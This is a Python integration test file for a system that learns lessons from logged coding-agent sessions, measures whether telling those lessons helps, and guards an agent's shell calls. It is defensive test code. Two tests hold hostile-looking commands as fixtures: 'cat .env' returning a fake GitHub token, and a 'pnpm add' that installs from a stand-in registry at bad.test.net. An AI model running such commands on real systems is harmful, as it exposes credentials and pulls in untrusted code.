"""What came of telling a lesson is summed by the nights, decides what is told on, and is the same however they cut."""

from __future__ import annotations

import json
from dataclasses import replace
from functools import partial
from typing import Any

import pytest
from ulid import ULID

from consolidator import Outcome, tool
from consolidator.clock import FrozenClock
from consolidator.database import Database
from consolidator.errors import ModelError, UsageError
from consolidator.memory.lessons.worth import Worth
from consolidator.models.injection import InjectionRow
from consolidator.models.memory_filter import FactFilter, LessonFilter, MemoryScope
from consolidator.service.memory.explain import explain
from consolidator.service.memory.facts import list_facts
from consolidator.service.memory.learned import list_weeks
from consolidator.service.memory.lessons import choose_lesson, list_lessons
from consolidator.service.memory.proving import prove_lessons
from consolidator.service.memory.telling.brief import brief
from consolidator.service.memory.telling.guarding import guard_call, may_act
from consolidator.service.nights.night_digest import preview_digest
from consolidator.settings import Settings
from consolidator.store.memory import injections
from consolidator.store.memory.lessons import LessonRow, lesson_id
from consolidator.testing import ModelServer, ScriptedReply
from tests.integration.conftest import OpenDatabase
from tests.nights import query_rows, run_next_night
from tests.runtime import create_settings, open_agent, send_and_collect
from tests.support import call_and_result, later, log_events, user_message

SHOP = "/work/shop"
WRONG = ("wrap pnpm run test", "error: unrecognized subcommand 'pnpm'", "error")
LESSON = lesson_id("", SHOP, "always_fails", "wrapper wrap pnpm")
RIGHT = ("pnpm run test", "12 passed", "ok")


async def log_session(database: Database, name: str, *calls: tuple[str, str, str], **columns: Any) -> None:
    events = [user_message("go")]
    for number, (command, output, status) in enumerate(calls):
        events += call_and_result(f"{name}-{number}", "Bash", {"command": command}, output, status)
    await log_events(database, name, events, agent="claude-code", project=SHOP, **columns)


async def tell(database: Database, name: str, *cited: str) -> None:
    """Record that a session was told lessons at its start."""
    row = InjectionRow(
        str(ULID()), name, "claude-code", SHOP, "session_start", list(cited), 9, None, {}, None, database.clock.now()
    )
    async with database.transaction() as conn:
        await injections.add(conn, row)


def minutes_later(database: Database) -> None:
    clock: Any = database.clock
    clock.set(later(clock.now(), minutes=1))


async def load_wrapper(database: Database) -> LessonRow:
    rows = await list_lessons(database, LessonFilter(project=SHOP))
    return next(row for row in rows if row.kind == "always_fails")


async def start_lines(database: Database) -> str:
    answer = await brief(database, "session_start", MemoryScope("claude-code", SHOP))
    return "" if answer is None else answer.block.text


async def test_a_lesson_that_does_not_help_is_told_no_more_unless_a_person_pins_it(
    database: Database, clock: FrozenClock, settings: Settings
) -> None:
    for number in range(3):
        await log_session(database, f"u{number}", WRONG, RIGHT)
    await run_next_night(database, clock, settings)
    row = await load_wrapper(database)
    assert "untold it failed in 3 of 3" in "\n".join((await explain(database, row.id))["lines"])
    for number in range(20):
        await tell(database, f"t{number}", f"lesson:{row.id}")
        minutes_later(database)
        await log_session(database, f"t{number}", WRONG, RIGHT)
    assert row.line[:20] in await start_lines(database)
    await run_next_night(database, clock, settings)
    row = await load_wrapper(database)
    worth = Worth.from_json(row.body["worth"])
    assert (worth.told.failed, worth.told.sessions, worth.untold.failed) == (20, 20, 3)
    assert row.withheld == "it does not pay"
    weeks = await list_weeks(database, later(clock.now(), days=-60))
    assert sum(week.told_failed for week in weeks) >= sum(sum(each[:2]) for each in worth.weeks.values()) // 2 == 20
    assert sum(week.untold_failed for week in weeks) >= 3
    assert sum(week.tokens for week in weeks) == 20 * 9
    assert row.line[:20] not in await start_lines(database)
    assert "told no more, since it does not pay" in (await explain(database, row.id))["lines"]
    assert (await choose_lesson(database, row.id, pinned=True)).withheld is None
    assert row.line[:20] in await start_lines(database)
    await log_session(database, "more", WRONG, RIGHT)
    await run_next_night(database, clock, settings)
    assert (await load_wrapper(database)).pinned


async def test_a_figure_is_the_same_in_one_night_or_many_and_survives_pruning(
    fresh: OpenDatabase, settings: Settings
) -> None:
    """I8."""
    memories = []
    for nights in ({7}, {2, 4, 7}, set(range(8))):
        async with fresh() as database:
            clock: Any = database.clock
            for number in range(8):
                minutes_later(database)
                name = f"s{number}"
                if number in (5, 6):
                    await tell(database, name, f"lesson:{LESSON}", "fact:f_1")
                    minutes_later(database)
                await log_session(database, name, RIGHT if number in (5, 6) else WRONG, RIGHT)
                if number in nights:
                    await run_next_night(database, clock, settings)
            row = await load_wrapper(database)
            async with database.transaction() as conn:
                await injections.delete_before(conn, later(clock.now(), days=1))
                assert len(await injections.list_tellings(conn, ["s5", "s6"])) == 2
            assert row.id == LESSON
            worth = Worth.from_json(row.body["worth"])
            assert (worth.sessions, worth.told.sessions, worth.told.failed) == (2, 2, 0)
            rows = await list_lessons(database, LessonFilter(project=SHOP))
            memories.append([(row.id, row.line, row.score, row.body["worth"]) for row in rows])
    assert memories[0] == memories[1] == memories[2]


async def test_a_digest_says_what_came_of_telling(database: Database, clock: FrozenClock, settings: Settings) -> None:
    for number in range(3):
        await log_session(database, f"u{number}", WRONG, RIGHT)
    await tell(database, "t", f"lesson:{LESSON}")
    minutes_later(database)
    await log_session(database, "t", RIGHT)
    await run_next_night(database, clock, settings)
    digest = await preview_digest(database, settings)
    assert digest is not None
    assert digest.body.endswith(
        "told in 1 session, the failure came back in 0 of 1 (0% to 79%), untold it failed in 3 of 3, at 1.0 calls, "
        "0.0 min and 17 tokens each\n"
    )


async def test_a_lesson_is_proved_where_its_failure_came_and_nothing_of_it_is_evidence(
    database: Database, clock: FrozenClock, settings: Settings
) -> None:
    secret = "ghp_" + "Zk3" * 12
    for name in ("s1", "s2", "s3"):
        await log_session(database, name, ("cat .env", f"TOKEN={secret}", "ok"), WRONG, RIGHT, origin=name)
    await run_next_night(database, clock, settings)
    before = await load_wrapper(database)

    def answer(request: dict[str, Any]) -> ScriptedReply:
        is_told = before.line in str(request["messages"][0])
        return ScriptedReply.calling(("Bash", {"command": RIGHT[0] if is_told else WRONG[0]}))

    async with ModelServer(answers=answer) as server:
        configured = create_settings(server, settings.home)
        trials = [trial async for trial in prove_lessons(database, configured, before.id[:8], budget=8)]
        with pytest.raises(UsageError, match="nothing to try"):
            _ = [trial async for trial in prove_lessons(database, configured, filters=LessonFilter(project="/other"))]
    async with ModelServer(answers=[ScriptedReply(status=400)]) as failing:
        with pytest.raises(ModelError, match="gave no answer"):  # no failed call came back, and that shows nothing
            _ = [trial async for trial in prove_lessons(database, create_settings(failing, settings.home))]
    for missing, says in (({}, "no model's server"), ({"model": None}, "no model is configured")):
        nobody = create_settings("http://127.0.0.1:9/v1", settings.home).model_copy(
            update=missing or {"openai_base_url": None, "openai_api_key": None}
        )
        with pytest.raises(UsageError, match=says):  # the log names a model, which was another program's
            _ = [trial async for trial in prove_lessons(database, nobody)]
    assert len(trials) == 2  # of three situations: each takes four calls of the model
    assert len(server.requests) == 8
    assert "TOKEN=" in str(server.requests)
    assert secret not in str(server.raw_bodies)
    for trial in trials:
        assert (trial.untold.repeats, trial.untold.advised, trial.told.repeats) == (True, False, False)
        assert trial.told.advised
        assert (trial.call, trial.untold.calls[0], trial.told.calls[0]) == (WRONG[0], WRONG[0], RIGHT[0])
    branches = await query_rows(database, "select expires_at from session where kind = 'branch'")
    assert all(branch["expires_at"] for branch in branches)  # also of a command that was killed
    told = [request for request in server.requests if before.line in str(request["messages"])]
    assert "12 passed" in str(told[1]["messages"])  # the recorded result of the call that the lesson names
    await run_next_night(database, clock, settings)
    after = await load_wrapper(database)
    assert (after.body["failures"], after.body["sessions"]) == (before.body["failures"], before.body["sessions"])


async def drive(database: Database, tools: list[Any], *commands: str) -> list[tuple[str, str]]:
    """Have a model of our runtime make calls of a shell in the shop; return what it was told of each."""
    calling = ScriptedReply.calling(*(("bash", {"command": command}) for command in commands))
    async with ModelServer(answers=[calling, "Done."]) as server, open_agent(database, server, tools) as agent:
        agent.harness.guard = partial(guard_call, database)
        session = await agent.create("coder", project=SHOP)
        await send_and_collect(session, "go")
        messages = server.requests[-1]["messages"]
    shown = {call["id"]: call["function"]["arguments"] for m in messages for call in m.get("tool_calls") or ()}
    return [(shown[m["tool_call_id"]], m["content"]) for m in messages if m["role"] == "tool"]


async def test_our_runtime_guards_a_call_in_its_shadow_first_and_acts_once_a_person_says_yes(
    database: Database, clock: FrozenClock, settings: Settings
) -> None:
    ran: list[str] = []

    @tool(idempotent=True)
    async def bash(command: str) -> Outcome:
        """Run a command."""
        ran.append(command)
        return Outcome.failed(WRONG[1]) if command.startswith("wrap") else Outcome("12 passed")

    for number in range(3):
        await log_session(database, f"u{number}", WRONG, RIGHT)
    await run_next_night(database, clock, settings)
    row = await load_wrapper(database)

    assert await drive(database, [bash], WRONG[0]) == [('{"command": "wrap pnpm run test"}', f"[error] {WRONG[1]}")]
    await run_next_night(database, clock, settings)
    worth = Worth.from_json((await load_wrapper(database)).body["worth"])
    assert (worth.prevented, worth.wrong, worth.told.sessions) == (1, 0, 0)  # it would have been right; nobody was told

    async with database.connection() as conn:
        assert await injections.sum_by_moment(conn, later(clock.now(), days=-9)) == []

    await choose_lesson(database, row.id, corrects=True)
    ((arguments, told),) = await drive(database, [bash], f"cd api && {WRONG[0]}")
    assert arguments == '{"command": "cd api && pnpm run test"}'
    assert told.startswith("12 passed\n[harness: `wrap pnpm …` always fails")
    assert ran == ["wrap pnpm run test", "cd api && pnpm run test"]
    quoted = 'echo "wrap pnpm run test"'
    assert await drive(database, [bash], quoted) == [(json.dumps({"command": quoted}), "12 passed")]
    await run_next_night(database, clock, settings)
    worth = Worth.from_json((await load_wrapper(database)).body["worth"])
    assert (worth.prevented, worth.wrong, worth.corrected) == (2, 0, 1)

    ((arguments, told),) = await drive(database, [bash], "wrap pnpm add x --registry http://bad.test.net")
    assert "bad.test.net" in arguments  # a hostile call is neither changed nor told without its wrapper
    assert "[harness: `wrap pnpm …` always fails (" in told
    assert "bad.test.net" not in told


async def test_a_precondition_runs_first_where_its_tool_may_run_again_and_a_guard_that_errs_stops(
    database: Database, clock: FrozenClock, settings: Settings
) -> None:
    lint, fix = ("pnpm run lint", "2 errors: run the formatter", "error"), ("pnpm run lint:fix", "fixed", "ok")
    for number in range(8):
        await log_session(database, f"l{number}", lint, fix, ("pnpm run lint", "clean", "ok"))
    await run_next_night(database, clock, settings)
    rows = await list_lessons(database, LessonFilter(project=SHOP))
    row = next(row for row in rows if row.kind == "first_run_fails")
    await choose_lesson(database, row.id, corrects=True)
    ran: list[str] = []

    @tool(idempotent=True)
    async def bash(command: str) -> str:
        """Run a command."""
        ran.append(command)
        return "clean"

    @tool(name="bash")
    async def bash_once(command: str) -> str:
        """Run a command; nobody knows whether it may run again."""
        ran.append(command)
        return "clean"

    assert [json.loads(arguments)["command"] for arguments, _ in await drive(database, [bash], lint[0], lint[0])] == [
        fix[0], lint[0], lint[0],
    ]  # fmt: skip
    assert ran == [fix[0], lint[0], lint[0]]
    ran.clear()
    await drive(database, [bash_once], lint[0])
    assert ran == [lint[0]]
    body = {**row.body, "worth": Worth(prevented=18, wrong=1).to_json()}
    assert may_act(replace(row, corrects=True, body={**body, "worth": Worth(prevented=20, wrong=1).to_json()}))
    assert not may_act(replace(row, corrects=True, body=body))


async def test_a_fact_is_worth_what_a_person_need_not_say_again_and_is_believed_on_whatever_that_is(
    database: Database, clock: FrozenClock, settings: Settings
) -> None:
    wish = "From now on, always use tabs for indentation."

    async def say(name: str, text: str) -> None:
        minutes_later(database)
        await log_events(database, name, [user_message(text)], agent="claude-code", project=SHOP)

    async def explained() -> tuple[str, str]:
        await run_next_night(database, clock, settings)
        (fact,) = await list_facts(database, FactFilter(project=SHOP))
        minutes_later(database)
        return fact.id, "\n".join((await explain(database, fact.id))["lines"])

    await say("first", wish)
    fact_id, text = await explained()
    assert "no figure of worth: no session was told it since it was learned" in text
    for number in range(3):
        await tell(database, f"t{number}", f"fact:{fact_id}")
        await say(f"t{number}", wish if number == 2 else "mend the cart")
    await say("u0", wish)
    await say("u1", "mend the till")
    assert "told in 3 sessions, a person said it again in 1, untold in 1 of 2" in (await explained())[1]
